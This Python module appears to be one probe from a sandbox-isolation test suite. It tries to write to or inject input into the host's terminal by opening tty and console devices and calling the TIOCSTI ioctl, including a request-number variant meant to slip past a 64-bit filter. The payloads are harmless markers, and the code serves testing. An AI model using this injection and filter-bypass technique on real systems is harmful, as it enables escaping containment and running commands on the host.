"""Types into the terminal of the host, or writes to it."""

from __future__ import annotations

import contextlib
import fcntl
import os
from typing import Any

KIND = "write outside"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    for place in (t["terminal"], "/dev/tty", "/dev/console", "/proc/1/fd/0", *(f"/proc/self/fd/{n}" for n in range(3))):
        for flags in (os.O_RDWR, os.O_WRONLY):
            with contextlib.suppress(OSError):
                terminal = os.open(place, flags | os.O_NOCTTY | os.O_NONBLOCK)
                if os.isatty(terminal):
                    return place, os.write(terminal, b"")
    for number in range(3):
        for request in (0x5412, 0x5412 | 1 << 32, 0x541C):  # the second is one that a filter of 64 bits would miss
            with contextlib.suppress(OSError, OverflowError):
                return fcntl.ioctl(number, request, b"x")
    return None
